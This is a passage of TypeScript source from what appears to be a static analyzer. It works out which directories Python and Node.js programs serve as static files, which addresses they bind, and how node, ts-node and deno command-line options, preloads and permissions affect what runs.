                // SimpleHTTPRequestHandler(..., directory=None)).
                const varkw = [...body.matchAll(/\bdef[ \t]+\w+[ \t]*\(([^)]*)\)/g)].flatMap(d =>
                    [...d[1].matchAll(/\*\*[ \t]*(\w+)/g)].map(k => k[1]),
                );
                const spreads = [...body.matchAll(/\*\*[ \t]*([^\s,)]*)/g)].map(k => k[1]);
                const opaque =
                    [...body.matchAll(/\bdirectory\b/g)].length !== given.length ||
                    spreads.some(k => !varkw.includes(k)) ||
                    varkw.some(
                        k =>
                            [...body.matchAll(new RegExp(`(?<![\\w.])${k}(?!\\w)`, "g"))].length !==
                            spreads.filter(x => x === k).length,
                    );
                handlerClasses.set(
                    m[2],
                    /\bdef[ \t]+translate_path\b/.test(body) || opaque
                        ? [undefined]
                        : given.length > 0
                          ? given.flatMap(g => directories(g[1], file, workingDirectories))
                          : inherited.length > 0
                            ? inherited
                            : workingDirectories,
                );
            }
        }
    // Tornado's StaticFileHandler and the classes derived from it, by name.
    const tornadoHandlers = new Set<string>([TORNADO_STATIC_HANDLER]);
    for (let pass = 0; pass < 4; pass++)
        for (const file of files) {
            const names = pythonNames(file.text);
            for (const m of file.text.matchAll(/^[ \t]*class[ \t]+(\w+)[ \t]*\(([^)]*)\)[ \t]*:/gm))
                if (m[2].split(",").some(b => tornadoHandlers.has(pythonResolve(b.trim(), names).name)))
                    tornadoHandlers.add(m[1]);
        }
    const served: { dir: string | undefined; api: string }[] = [];
    for (const file of files) {
        const names = pythonNames(file.text);
        const blanked = pythonStringsBlanked(file.text);
        const imports = [...blanked.matchAll(PYTHON_FROM_IMPORT), ...blanked.matchAll(PYTHON_IMPORT)].map(m => [
            m.index ?? 0,
            (m.index ?? 0) + m[0].length,
        ]);
        for (const m of file.text.matchAll(/(?<![\w.])([A-Za-z_][\w.]*)/g)) {
            const index = m.index ?? 0;
            const resolved = pythonResolve(m[1], names).name;
            const classDefault = pythonFileHandler(resolved)
                ? workingDirectories
                : handlerClasses.get(resolved.split(".").at(-1) ?? "");
            if (classDefault === undefined || imports.some(([s, e]) => index >= s && index < e)) continue;
            const line = file.text.slice(file.text.lastIndexOf("\n", index) + 1, index);
            if (/^[ \t]*(class|def)[ \t]/.test(line)) continue;
            // Bound by functools.partial(HANDLER, directory=...) (Python docs "functools.partial") or called with it.
            const before = /([A-Za-z_][\w.]*)\s*\(\s*$/.exec(file.text.slice(0, index));
            const partial = before && /^(functools\.)?partial$/.test(pythonResolve(before[1], names).name);
            const open = partial
                ? file.text.lastIndexOf("(", index)
                : /^\s*\(/.test(file.text.slice(index + m[0].length))
                  ? file.text.indexOf("(", index + m[0].length)
                  : -1;
            const call = open >= 0 ? parenthesized(file.text, open) : undefined;
            // A name bound to functools.partial(HANDLER, directory=DIR) is HANDLER with that DIR, the call's own
            // keywords over it (Python "functools.partial"); the partial's own call is read where it is written.
            // A `**` spread gives it too (pythonKeyword); one the pack cannot read, a directory it cannot know.
            const bound = names.partials.get(m[1]);
            let given = call === undefined ? null : pythonKeyword(call, "directory", file.text);
            if (given === null && bound !== undefined) given = pythonKeyword(bound.bound, "directory", file.text);
            const dirs =
                given === null
                    ? classDefault
                    : given === undefined
                      ? [undefined]
                      : directories(given, file, workingDirectories);
            served.push(...dirs.map(dir => ({ dir, api: `${resolved.split(".").at(-1)} (http.server)` })));
        }
        for (const { callee, call } of pythonCalls(file.text))
            for (const api of PYTHON_STATIC_APIS) {
                if (!api.callee.test(callee) || !api.family.test(all)) continue;
                let given = pythonCallArguments(call).argument(...api.argument);
                // `**settings` (Tornado's documented `Application(handlers, **settings)`): the dict's own entry.
                if (given?.startsWith("**")) {
                    const entry = pythonKeyword(call, api.argument[0], file.text);
                    if (entry === null) continue;
                    given = entry ?? given;
                }
                // None serves nothing (Flask: the static route is added only "if self.has_static_folder").
                if (given === undefined || given.trim() === "None") continue;
                const exprs = api.dictValues
                    ? /^\{[\s\S]*\}$/.test(given.trim())
                        ? pythonSplit(given.trim().slice(1, -1), ",").map(item => pythonSplit(item, ":")[1] ?? "")
                        : [given]
                    : [given];
                const from = api.module ? [posix.dirname(file.path)] : workingDirectories;
                for (const expr of exprs)
                    served.push(...directories(expr, file, from).map(dir => ({ dir, api: callee })));
            }
        // Flask's `app.static_folder = DIR` (Flask API: the static_folder property, "The absolute path to the configured
        // static folder"), relative to the module's directory as the constructor's.
        if (/\bflask\b/.test(all))
            for (const m of file.text.matchAll(/\.static_folder[ \t]*=(?!=)[ \t]*([^\n;#]+)/g))
                served.push(
                    ...directories(m[1], file, [posix.dirname(file.path)]).map(dir => ({
                        dir,
                        api: "Flask static_folder",
                    })),
                );
        // Tornado's StaticFileHandler (or a class derived from it) in a URL spec, `(pattern, StaticFileHandler, {"path":
        // DIR})`, `url(pattern, StaticFileHandler, dict(path=DIR))` ("path: the local root directory of the content to be
        // served", relative to the working directory: os.path.abspath), any other use a directory the pack cannot know.
        for (const m of file.text.matchAll(/(?<![\w.])([A-Za-z_][\w.]*)/g)) {
            const index = m.index ?? 0;
            const resolved = pythonResolve(m[1], names).name;
            const last = resolved.split(".").at(-1) ?? "";
            if (!(resolved === TORNADO_STATIC_HANDLER || (last !== "StaticFileHandler" && tornadoHandlers.has(last))))
                continue;
            if (imports.some(([s, e]) => index >= s && index < e)) continue;
            const line = file.text.slice(file.text.lastIndexOf("\n", index) + 1, index);
            if (/^[ \t]*(class|def)[ \t]/.test(line)) continue;
            const after = file.text.slice(index + m[0].length);
            const open = /^\s*,\s*(?=\{|dict\s*\()/.exec(after);
            const options = open === null ? undefined : pythonBracketed(after, open[0].length);
            const path = options === undefined ? undefined : (pythonDictEntry(options, "path") ?? undefined);
            const dirs = path === undefined ? [undefined] : directories(path, file, workingDirectories);
            served.push(...dirs.map(dir => ({ dir, api: "Tornado StaticFileHandler" })));
        }
    }
    if (served.length === 0) return [];
    // Every directory is unknown when a module of the program is one the pack cannot read, has code it cannot follow
    // (pythonDynamic: `import __main__` rebinds the script's names, setattr any object's), or rebinds an attribute of
    // an imported module or of a file handler class (pythonPatches: `os.getcwd = ...` in any module: a module is one
    // shared object, sys.modules; Python reference "The import system").
    if (unread || files.some(f => pythonDynamic(f.text) || pythonPatches(f.text, handlerClasses).length > 0))
        for (const s of served) s.dir = undefined;
    // Where it listens: each server call's host, every address when one is not known or there is none.
    const hosts = files.flatMap(file =>
        pythonCalls(file.text).flatMap(({ callee, call }) =>
            PYTHON_SERVER_BINDS.filter(s => s.callee.test(callee)).map(server => {
                const given = pythonCallArguments(call).argument(...server.argument);
                if (given === undefined) return server.otherwise;
                let found = value(given, file);
                if (found !== undefined && server.tuple) {
                    const tuple = /^\(([\s\S]*)\)$/.exec(found.text);
                    const first = tuple ? pythonCallArguments(tuple[1]).positional[0] : undefined;
                    found = first === undefined ? undefined : value(first, found.file);
                }
                return pythonString(found?.text) || undefined;
            }),
        ),
    );
    const endpoints = files.flatMap(file =>
        pythonCalls(file.text)
            .filter(c => /(^|\.)serverFromString$/.test(c.callee))
            .map(
                c =>
                    /interface=([^:"']+)/.exec(
                        pythonString(value(pythonCallArguments(c.call).argument("description", 1), file)?.text) ?? "",
                    )?.[1],
            ),
    );
    const binds = [...hosts, ...endpoints];
    const every = binds.length === 0 || binds.some(b => b === undefined);
    const unique = [...new Set(served.map(s => s.dir))];
    return unique.map(dir => ({
        server: `python ${where}: ${[...new Set(served.filter(s => s.dir === dir).map(s => s.api))].join(", ")} serving files`,
        binds: every ? [] : [...new Set(binds as string[])],
        serves: { files: dir },
    }));
}

/** The index just past the JavaScript string or template literal starting at `i` (backslash escapes skipped). */
function jsStringEnd(text: string, i: number): number {
    let j = i + 1;
    while (j < text.length && text[j] !== text[i]) j += text[j] === "\\" ? 2 : 1;
    return j + 1;
}

/**
 * JavaScript source with its comments removed (`//` to the line's end, block comments), string and template literals
 * kept whole: what nodeFileServerListeners reads.
 */
function jsWithoutComments(text: string): string {
    let out = "";
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (ch === "'" || ch === '"' || ch === "`") {
            const end = jsStringEnd(text, i);
            out += text.slice(i, end);
            i = end - 1;
        } else if (ch === "/" && text[i + 1] === "/") {
            while (i < text.length && text[i] !== "\n") i++;
            out += "\n";
        } else if (ch === "/" && text[i + 1] === "*") {
            const end = text.indexOf("*/", i + 2);
            i = end < 0 ? text.length : end + 1;
            out += " ";
        } else out += ch;
    }
    return out;
}

/**
 * The top-level arguments of the JavaScript call whose `(` is at `open` (strings and brackets skipped) and the index of
 * its `)`, undefined when it does not close.
 */
function jsCall(text: string, open: number): { args: string[]; close: number } | undefined {
    const args: string[] = [];
    let depth = 0;
    let start = open + 1;
    for (let i = open; i < text.length; i++) {
        const ch = text[i];
        if (ch === "'" || ch === '"' || ch === "`") i = jsStringEnd(text, i) - 1;
        else if ("([{".includes(ch)) depth++;
        else if (")]}".includes(ch)) {
            if (--depth === 0) {
                const last = text.slice(start, i).trim();
                return { args: last === "" && args.length === 0 ? [] : [...args, last], close: i };
            }
        } else if (ch === "," && depth === 1) {
            args.push(text.slice(start, i).trim());
            start = i + 1;
        }
    }
    return undefined;
}

/** A JavaScript string literal's value ('...', "...", a template without `${}`), undefined for any other expression. */
const jsString = (expr: string | undefined) => {
    const m = /^\s*(['"`])((?:\\.|(?!\1)[^\\])*)\1\s*$/s.exec(expr ?? "");
    return m === null || (m[1] === "`" && m[2].includes("${")) ? undefined : m[2].replace(/\\(.)/g, "$1");
};

/** The top-level `+` terms of a JavaScript expression (one term when it has none). */
function jsTerms(expr: string): string[] {
    const terms: string[] = [];
    let [depth, start] = [0, 0];
    for (let i = 0; i < expr.length; i++) {
        const ch = expr[i];
        if (ch === "'" || ch === '"' || ch === "`") i = jsStringEnd(expr, i) - 1;
        else if ("([{".includes(ch)) depth++;
        else if (")]}".includes(ch)) depth--;
        else if (ch === "+" && depth === 0) {
            terms.push(expr.slice(start, i));
            start = i + 1;
        }
    }
    return [...terms, expr.slice(start)];
}

/**
 * The JavaScript expression starting at `at` in `text`, up to the first `,` `;` or line end outside brackets and strings,
 * or the bracket closing one it did not open: an object property's value (`root: path.join(__dirname, 'public')`).
 */
function jsExpressionAt(text: string, at: number): string {
    let depth = 0;
    for (let i = at; i < text.length; i++) {
        const ch = text[i];
        if (ch === "'" || ch === '"' || ch === "`") i = jsStringEnd(text, i) - 1;
        else if ("([{".includes(ch)) depth++;
        else if (")]}".includes(ch)) {
            if (--depth < 0) return text.slice(at, i).trim();
        } else if (depth === 0 && ",;\n".includes(ch)) return text.slice(at, i).trim();
    }
    return text.slice(at).trim();
}

/** The value of property `key` of a JavaScript object literal `{...}` (its shorthand `{ key }` the name), if given. */
function jsProperty(object: string | undefined, key: string): string | undefined {
    const inner = /^\s*\{([\s\S]*)\}\s*$/.exec(object ?? "")?.[1];
    if (inner === undefined) return undefined;
    for (const item of jsCall(`(${inner})`, 0)?.args ?? []) {
        const m = /^(['"]?)([\w$]+)\1\s*(?::\s*([\s\S]*))?$/.exec(item);
        if (m && m[2] === key) return m[3] ?? m[2];
    }
    return undefined;
}

/**
 * A JavaScript object literal `expr` is, or the one a name assigned once in `text` holds (`const options = {...}`),
 * undefined when the pack cannot tell.
 */
function jsObject(expr: string, text: string): string | undefined {
    expr = expr.trim();
    if (/^\{[\s\S]*\}$/.test(expr)) return expr;
    if (!/^[A-Za-z_$][\w$]*$/.test(expr)) return undefined;
    const assigned = [...text.matchAll(new RegExp(`(?<![\\w$.])${expr.replace(/\$/g, "\\$")}\\s*=(?![=>])`, "g"))];
    if (assigned.length !== 1) return undefined;
    const value = jsExpressionAt(text, (assigned[0].index ?? 0) + assigned[0][0].length);
    return /^\{[\s\S]*\}$/.test(value) ? value : undefined;
}

/**
 * The value of a JavaScript path (or host) expression of a file user data wrote, when the pack can tell, else
 * undefined: a string literal, `__dirname` (Node.js "Modules: CommonJS": "The directory name of the current module"),
 * `process.cwd()`, a template of those, `+` concatenations, `path.join`/`path.resolve`/`path.normalize`/`path.dirname`
 * (Node.js "Path": resolve works from the working directory), and a name assigned once in the file (`const NAME = ...`).
 */
function jsPath(expr: string, text: string, dir: string, cwd: string | undefined, depth = 0): string | undefined {
    expr = expr.trim();
    if (depth > 6) return undefined;
    const literal = jsString(expr);
    if (literal !== undefined) return literal;
    // ESM: import.meta.dirname (Node.js "Modules: ECMAScript modules", "The directory name of the current module"),
    // and `fileURLToPath(import.meta.url)` ("url.fileURLToPath(url)"), the module's own file in that directory.
    if (expr === "__dirname" || expr === "import.meta.dirname") return dir;
    if (/^(?:url\.)?fileURLToPath\s*\(\s*import\.meta\.url\s*\)$/.test(expr)) return posix.join(dir, "[module]");
    if (/^process\.cwd\(\)$/.test(expr)) return cwd;
    const template = /^`([^`]*)`$/.exec(expr);
    if (template) {
        let unknown = false;
        const value = template[1].replace(/\$\{([^}]*)\}/g, (_, inner: string) => {
            const v = jsPath(inner, text, dir, cwd, depth + 1);
            if (v === undefined) unknown = true;
            return v ?? "";
        });
        return unknown ? undefined : value;
    }
    const terms = jsTerms(expr);
    if (terms.length > 1) {
        const values = terms.map(t => jsPath(t, text, dir, cwd, depth + 1));
        return values.some(v => v === undefined) ? undefined : values.join("");
    }
    // path's functions by the module (`path.join`) or as named imports of it (`import { join } from 'node:path'`).
    const method = /^(?:path\.(?:posix\.)?)?(join|resolve|normalize|dirname)\s*\(/.exec(expr);
    const named =
        method !== null &&
        !expr.startsWith("path.") &&
        !new RegExp(
            `\\{[^}]*(?<![\\w$])${method[1]}(?![\\w$])[^}]*\\}\\s*(?:=\\s*require\\s*\\(\\s*|from\\s*)['"](?:node:)?path['"]`,
        ).test(text);
    if (named) return undefined;
    const call = method ? jsCall(expr, method[0].length - 1) : undefined;
    if (method && call !== undefined && call.close === expr.length - 1) {
        const values = call.args.map(a => jsPath(a, text, dir, cwd, depth + 1));
        if (values.some(v => v === undefined)) return undefined;
        const parts = values as string[];
        if (method[1] === "join") return posix.join(...parts);
        if (method[1] === "normalize") return posix.normalize(parts[0] ?? ".");
        if (method[1] === "dirname") return posix.dirname(parts[0] ?? ".");
        return cwd === undefined && !parts.some(p => p.startsWith("/"))
            ? undefined
            : posix.resolve(cwd ?? "/", ...parts);
    }
    if (/^[A-Za-z_$][\w$]*$/.test(expr)) {
        const name = expr.replace(/\$/g, "\\$");
        const assigned = [...text.matchAll(new RegExp(`(?<![\\w$.])${name}\\s*=(?![=>])`, "g"))];
        if (assigned.length !== 1) return undefined;
        const at = (assigned[0].index ?? 0) + assigned[0][0].length;
        const end = /[;\n]/.exec(text.slice(at));
        return jsPath(text.slice(at, end === null ? undefined : at + end.index), text, dir, cwd, depth + 1);
    }
    return undefined;
}

/**
 * The file Node.js runs for a main entry user data wrote (Node.js "Modules: CommonJS", "All together": LOAD_AS_FILE
 * X, X.js, X.json, X.node (here .cjs/.mjs/.ts beside), then LOAD_AS_DIRECTORY: X/package.json "main", X/index.js), with
 * its text, when user data wrote it and did not change it since.
 */
function nodeModuleFile(
    path: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { path: string; text: string } | undefined {
    const text = (p: string) => (view.changed.has(p) ? undefined : fileText?.(p));
    for (const file of [path, ...[".js", ".cjs", ".mjs", ".json", ".ts", ".mts", ".cts"].map(e => `${path}${e}`)]) {
        const found = text(file);
        if (found !== undefined) return { path: file, text: found };
    }
    let main: unknown;
    try {
        main = (JSON.parse(text(posix.join(path, "package.json")) ?? "{}") as { main?: unknown }).main;
    } catch {
        return undefined;
    }
    if (typeof main === "string" && main !== "" && posix.resolve(path, main) !== path)
        return nodeModuleFile(posix.resolve(path, main), fileText, view);
    const index = text(posix.join(path, "index.js"));
    return index === undefined ? undefined : { path: posix.join(path, "index.js"), text: index };
}

/**
 * Node.js options whose module runs before the entry point (Node.js "Command-line API": `-r, --require module`
 * "Preload the specified module at startup", `--import=module` "Preload the specified module at startup",
 * `--experimental-loader=module` (alias `--loader`) "Specify the module containing exported module customization hooks":
 * imported, its top-level code run, first), each also as `--OPTION=module`.
 */
const NODE_PRELOAD_OPTIONS = /^(-r|--require|--import|--loader|--experimental-loader)$/;

/**
 * Node.js options that take a value, as `--OPTION=value` or as the next word (`node --help`, Node.js 20-24
 * "Command-line API"; V8's size options alike): NODE_PRELOAD_OPTIONS, `-C/--conditions`, `--env-file` ... Names are
 * compared with `_` as `-` ("All options, including V8 options, allow words to be separated by both dashes (-) and
 * underscores (_)").
 */
const NODE_VALUE_OPTIONS =
    /^(-r|--require|--import|--loader|--experimental-loader|-C|--conditions|--title|--input-type|--env-file|--env-file-if-exists|--watch-path|--watch-kill-signal|--inspect-port|--debug-port|--inspect-publish-uid|--allow-fs-read|--allow-fs-write|--build-snapshot-config|--cpu-prof-dir|--cpu-prof-interval|--cpu-prof-name|--heap-prof-dir|--heap-prof-interval|--heap-prof-name|--heapsnapshot-near-heap-limit|--heapsnapshot-signal|--diagnostic-dir|--disable-proto|--disable-warning|--dns-result-order|--experimental-default-type|--experimental-policy|--policy-integrity|--experimental-sea-config|--icu-data-dir|--localstorage-file|--max-http-header-size|--network-family-autoselection-attempt-timeout|--openssl-config|--redirect-warnings|--report-dir|--report-directory|--report-filename|--report-signal|--secure-heap|--secure-heap-min|--snapshot-blob|--stack-trace-limit|--test-concurrency|--test-name-pattern|--test-skip-pattern|--test-reporter|--test-reporter-destination|--test-shard|--test-timeout|--tls-cipher-list|--tls-keylog|--trace-event-categories|--trace-event-file-pattern|--trace-require-module|--unhandled-rejections|--use-largepages|--v8-pool-size|--max-old-space-size|--max-semi-space-size|--stack-size)$/;
/**
 * Node.js options that take no value (`node --help`, Node.js "Command-line API", with their `--no-` forms; V8's
 * `--expose-gc`); `--inspect`, `--inspect-brk` and `--inspect-wait` take theirs only after `=` (`--inspect[=[host:]port]`,
 * on 127.0.0.1:9229 by default).
 */
const NODE_FLAG_OPTIONS =
    /^(--no-[a-z0-9-]+|-c|--check|-i|--interactive|-h|--help|-v|--version|--v8-options|--completion-bash|--abort-on-uncaught-exception|--allow-addons|--allow-child-process|--allow-wasi|--allow-worker|--permission|--experimental-permission|--build-snapshot|--cpu-prof|--heap-prof|--disable-wasm-trap-handler|--disallow-code-generation-from-strings|--enable-etw-stack-walking|--enable-fips|--force-fips|--enable-source-maps|--enable-network-family-autoselection|--experimental-[a-z0-9-]+|--expose-gc|--force-context-aware|--force-node-api-uncaught-exceptions-policy|--frozen-intrinsics|--huge-max-old-generation-size|--insecure-http-parser|--inspect|--inspect-brk|--inspect-wait|--interpreted-frames-native-stack|--jitless|--node-memory-debug|--openssl-legacy-provider|--openssl-shared-config|--pending-deprecation|--preserve-symlinks|--preserve-symlinks-main|--prof|--prof-process|--report-compact|--report-exclude-network|--report-exclude-env|--report-on-fatalerror|--report-on-signal|--report-uncaught-exception|--test|--test-force-exit|--test-only|--test-update-snapshots|--throw-deprecation|--tls-max-v1\.2|--tls-max-v1\.3|--tls-min-v1\.0|--tls-min-v1\.1|--tls-min-v1\.2|--tls-min-v1\.3|--trace-atomics-wait|--trace-deprecation|--trace-env|--trace-exit|--trace-promises|--trace-sigint|--trace-sync-io|--trace-tls|--trace-uncaught|--trace-warnings|--track-heap-objects|--use-bundled-ca|--use-openssl-ca|--use-system-ca|--watch|--watch-preserve-output|--zero-fill-buffers)$/;
/** Options of the --experimental- family that take a value (the flag pattern's exceptions). */
const NODE_EXPERIMENTAL_VALUE_OPTIONS = /^--experimental-(loader|default-type|policy|sea-config|config-file)$/;

/**
 * Runners with options of their own, read instead of Node.js's (nodeEntry): `value` options taking a value (glued or
 * the next word), `glued` those taking one only after `=`, `flag` those taking none, `preload` those naming a module run
 * first, `code` those giving the code. Any other option fails closed.
 * - ts-node (TypeStrong/ts-node docs "Options", src/bin.ts: its own argument table; camelCase spellings read as
 *   kebab-case): -T/--transpile-only, --swc, --type-check, -H/--compiler-host, --files, --pretty, --log-error, --esm,
 *   -s/--script-mode, --skip-project, --skip-ignore, --prefer-ts-exts, --emit, --scope; -P/--project,
 *   -O/--compiler-options, -D/--ignore-diagnostics, -I/--ignore, --scope-dir take a value; -r/--require a module;
 *   -e/--eval code. `--compiler`/`--transpiler` (a module doing the compiling) and `--cwd` are not read.
 * - deno run (Deno docs "deno run", "Security and permissions"): the permission flags, their value only after `=`
 *   (--allow-net=<host:port>, -N, --allow-read=<path>, -R, ... and --deny-*), -c/--config, --import-map, --cert,
 *   --location, --seed, --ext, --log-level, --preload (a module); --no-check, --check, -q/--quiet, --unstable*,
 *   --no-remote, --no-npm, --cached-only, --frozen, --no-lock, --no-config, --no-prompt, --reload, --lock,
 *   --node-modules-dir, --vendor. The permissions are read by denoNetwork. `--v8-flags`, `--env-file`,
 *   `-P/--permission-set` are not read.
 */
const RUNNER_OPTIONS: Record<
    string,
    { value: RegExp; glued: RegExp; flag: RegExp; preload: RegExp; code: RegExp; inspect: RegExp }
> = {
    "ts-node": {
        value: /^(-P|--project|-O|--compiler-options|-D|--ignore-diagnostics|-I|--ignore|--scope-dir|-r|--require)$/,
        glued: /^$/,
        flag: /^(-T|--transpile-only|--swc|--type-check|-H|--compiler-host|--files|--pretty|--log-error|--esm|-s|--script-mode|--skip-project|--skip-ignore|--prefer-ts-exts|--emit|--scope|--no-experimental-repl-await)$/,
        preload: /^(-r|--require)$/,
        code: /^(-e|--eval)$/,
        inspect: /^$/,
    },
    deno: {
        value: /^(-c|--config|--import-map|--cert|--location|--seed|--ext|--log-level|--preload|--watch-exclude)$/,
        glued: /^(--allow-(net|read|write|env|sys|run|ffi|import)|--deny-(net|read|write|env|sys|run|ffi|import)|--reload|-r|--lock|--check|--node-modules-dir|--vendor|--inspect|--inspect-brk|--inspect-wait|--unstable-[a-z0-9-]+)$/,
        flag: /^(-N|-R|-W|-E|-S|-I|-A|--allow-all|--allow-hrtime|--no-check|-q|--quiet|--unstable|--no-remote|--no-npm|--cached-only|--frozen|--no-lock|--no-config|--no-prompt|--watch|--watch-hmr|--no-clear-screen)$/,
        preload: /^--preload$/,
        code: /^$/,
        inspect: /^--(inspect|inspect-brk|inspect-wait)$/,
    },
};
RUNNER_OPTIONS["ts-node-esm"] = RUNNER_OPTIONS["ts-node"];

/**
 * The addresses a `deno run` program may listen on, from its permission flags (Deno docs "Security and permissions":
 * "By default, Deno ... no network access"; "--allow-net=<IP_OR_HOSTNAME>": `Deno.listen`/`Deno.serve` need the net
 * permission for the address they bind; without a terminal a permission not granted is denied, not prompted): none
 * without --allow-net, the hosts it names (each `host[:port]`), or undefined, any, when it is given without a list,
 * with -N/-A/--allow-all, or with a permission that runs code outside the sandbox or may start it (--allow-run,
 * --allow-ffi, --allow-write: a file another program runs).
 */
function denoNetwork(options: readonly string[]): string[] | undefined {
    let hosts: string[] = [];
    for (const w of options) {
        const [, name, glued] = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w) ?? [undefined, w, undefined];
        if (/^(-A|--allow-all|--allow-run|--allow-ffi|--allow-write|-W)$/.test(name)) return undefined;
        if (/^(-N|--allow-net)$/.test(name)) {
            if (glued === undefined || glued === "") return undefined;
            hosts = [...hosts, ...glued.split(",").filter(h => h !== "")];
        }
    }
    return hosts;
}

/**
 * What `node [options] SCRIPT | -e|--eval CODE | -p|--print CODE | -` runs (Node.js "Command-line API"), when user
 * data gave it: a script it wrote and did not change since (nodeModuleFile), or the code itself; `-` reads the script
 * from standard input (a here-document's, passed as /dev/stdin); `--` ends the options. Options are read by
 * NODE_VALUE_OPTIONS and NODE_FLAG_OPTIONS, a value given glued or as the next word; an option the pack does not know
 * (its value word unknown too) fails closed: `unread`, a program the pack does not read. The NODE_PRELOAD_OPTIONS
 * modules are `preloads`. `--env-file FILE` (and `--env-file-if-exists`): "The environment variables which configure
 * Node.js, such as NODE_OPTIONS, are parsed and applied": a file user data wrote is read (its NODE_OPTIONS read as
 * options before the command line's), any other one may set NODE_OPTIONS: unread. `dir` is `__dirname`'s.
 */
function nodeEntry(
    given: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    runner = "node",
):
    | {
          label: string;
          path: string;
          text: string;
          dir: string;
          preloads: string[];
          unread?: string;
          /** deno's: the addresses its permissions let it listen on (denoNetwork), undefined any. */
          network?: string[];
      }
    | undefined {
    const own = RUNNER_OPTIONS[runner];
    if (own !== undefined) return runnerEntry(runner, own, given, cwd, fileText, view);
    const preloads: string[] = [];
    const args = [...given];
    const unread = (why: string) => {
        const dir = cwd ?? "/";
        return { label: args.join(" "), path: posix.join(dir, "[unread]"), text: "", dir, preloads, unread: why };
    };
    for (let i = 0; i < args.length; i++) {
        const w = args[i];
        // Standard input by any of its names (shell.ts standardInput); another descriptor is a script the pack cannot
        // read.
        const stdin = standardInput(w, true, cwd);
        if (stdin === undefined) return unread(`its script from the descriptor ${w}`);
        if (stdin) {
            const text = fileText?.("/dev/stdin");
            const dir = cwd ?? "/";
            return text === undefined
                ? undefined
                : { label: "-", path: posix.join(dir, "[stdin]"), text, dir, preloads };
        }
        const script = w === "--" ? args[i + 1] : w.startsWith("-") ? undefined : w;
        if (w === "--" && script === undefined) return undefined;
        if (script !== undefined) {
            if (cwd === undefined && !script.startsWith("/")) return undefined;
            const found = nodeModuleFile(posix.resolve(cwd ?? "/", script), fileText, view);
            return found === undefined
                ? undefined
                : { label: script, path: found.path, text: found.text, dir: posix.dirname(found.path), preloads };
        }
        const option = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w);
        const name = option?.[1].replace(/(?<=^--.*)_/g, "-") ?? w;
        const valued = NODE_VALUE_OPTIONS.test(name) || NODE_EXPERIMENTAL_VALUE_OPTIONS.test(name);
        const code = /^(-e|--eval|-p|--print|-pe)$/.test(name);
        const value = option?.[2] ?? (valued || code ? args[++i] : undefined);
        if (code) {
            if (value === undefined) return undefined;
            const dir = cwd ?? "/";
            const label = `-e '${value.length > 60 ? `${value.slice(0, 57)}...` : value}'`;
            return { label, path: posix.join(dir, "[eval]"), text: value, dir, preloads };
        }
        // The V8 inspector (`--inspect[=[host:]port]`, its -brk/-wait forms, `--inspect-port`) runs any code it is sent
        // (Node.js "Debugger": "binding the inspector to a public IP:port combination is insecure"): beyond loopback,
        // a program the pack does not read.
        if (
            /^--(inspect|inspect-brk|inspect-wait|inspect-port|debug-port)$/.test(name) &&
            value !== undefined &&
            !/^((127\.0\.0\.1|localhost|\[::1\]):)?\d*$/.test(value)
        )
            return unread(`${w}, the V8 inspector beyond loopback (it runs any code)`);
        if (valued) {
            if (value === undefined) return undefined;
            if (NODE_PRELOAD_OPTIONS.test(name)) preloads.push(value);
            if (/^--env-file(-if-exists)?$/.test(name)) {
                const file = cwd === undefined && !value.startsWith("/") ? undefined : posix.resolve(cwd ?? "/", value);
                const text = file === undefined ? null : readConfig(file, fileText, view);
                if (text == null)
                    return unread(
                        `--env-file ${value}, an environment file user data does not write (it may set NODE_OPTIONS)`,
                    );
                const options = environmentFileVariables(text).filter(v => v.name === "NODE_OPTIONS");
                args.splice(i + 1, 0, ...options.flatMap(v => quotedWords(v.value)));
            }
        } else if (
            !NODE_FLAG_OPTIONS.test(name) ||
            (value !== undefined && !/^--(inspect|inspect-brk|inspect-wait)$/.test(name))
        )
            return unread(`${w}, a Node.js option the pack does not know`);
    }
    return undefined;
}

/**
 * What a runner with options of its own (RUNNER_OPTIONS) runs, read as nodeEntry reads `node`'s command line: the
 * first operand (or `--`'s next word) is the script, a `code` option's value the code; an option it does not know
 * fails closed. ts-node reads the "ts-node" object of its tsconfig.json (ts-node docs "Configuration": found from the
 * script's directory, or -P's): its `require` modules are preloads, any option but those RUNNER_OPTIONS reads as flags
 * unread; a tsconfig.json user data did not write is TypeScript's own settings only when it has none, which the pack
 * cannot know: ts-node with a tsconfig.json user data wrote, or none, is read. deno: its permissions (denoNetwork).
 */
function runnerEntry(
    runner: string,
    own: (typeof RUNNER_OPTIONS)[string],
    given: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): ReturnType<typeof nodeEntry> {
    const preloads: string[] = [];
    const options: string[] = [];
    const dir = cwd ?? "/";
    const unread = (why: string) => ({
        label: given.join(" "),
        path: posix.join(dir, "[unread]"),
        text: "",
        dir,
        preloads,
        unread: why,
    });
    let project: string | undefined;
    for (let i = 0; i < given.length; i++) {
        const w = given[i];
        const script = w === "--" ? given[i + 1] : w.startsWith("-") && w !== "-" ? undefined : w;
        if (w === "--" && script === undefined) return undefined;
        if (script !== undefined) {
            if (script === "-" || (cwd === undefined && !script.startsWith("/"))) return undefined;
            const found = nodeModuleFile(posix.resolve(dir, script), fileText, view);
            if (found === undefined) return undefined;
            const network = runner === "deno" ? denoNetwork(options) : undefined;
            if (runner !== "deno") {
                const why = tsNodeConfig(project, posix.dirname(found.path), fileText, preloads);
                if (why !== undefined) return unread(why);
            }
            return {
                label: script,
                path: found.path,
                text: found.text,
                dir: posix.dirname(found.path),
                preloads,
                network,
            };
        }
        const option = /^(-[^-=]|--[^=]+)(?:=([\s\S]*))?$/.exec(w);
        const name = (option?.[1] ?? w).replace(/(?<=^--.*)[A-Z]/g, c => `-${c.toLowerCase()}`);
        const valued = own.value.test(name) || own.code.test(name);
        const value = option?.[2] ?? (valued ? given[++i] : undefined);
        options.push(option?.[2] === undefined ? name : `${name}=${option[2]}`);
        if (own.code.test(name)) {
            if (value === undefined) return undefined;
            const label = `-e '${value.length > 60 ? `${value.slice(0, 57)}...` : value}'`;
            return { label, path: posix.join(dir, "[eval]"), text: value, dir, preloads };
        }
        // The V8 inspector beyond loopback runs any code it is sent (as nodeEntry's --inspect).
        if (own.inspect.test(name) && value !== undefined && !/^((127\.0\.0\.1|localhost|\[::1\]):)?\d*$/.test(value))
